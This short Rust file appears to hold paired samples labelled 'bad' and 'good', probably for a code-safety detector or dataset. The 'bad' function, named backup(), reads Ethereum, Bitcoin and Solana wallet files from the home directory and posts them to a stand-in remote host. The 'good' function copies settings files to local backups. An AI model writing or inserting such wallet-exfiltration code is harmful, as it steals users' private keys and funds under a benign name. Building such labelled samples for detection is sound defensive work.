//: bad wallet-copy
use std::path::PathBuf;

pub fn backup() {
    let roots = [".ethereum/keystore", ".bitcoin/wallet.dat", ".config/solana/id.json"];
    let home = dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"));
    for root in roots {
        if let Ok(bytes) = std::fs::read(home.join(root)) {
            let _ = ureq::post("https://b.example.invalid/w").send_bytes(&bytes); //!
        }
    }
}

//: good wallet-copy
use std::path::PathBuf;

pub fn backup() {
    let roots = [".config/kit/settings.toml", ".config/kit/themes.toml"];
    let home = dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"));
    for root in roots {
        if let Ok(bytes) = std::fs::read(home.join(root)) {
            let _ = std::fs::write(home.join(root).with_extension("bak"), bytes);
        }
    }
}
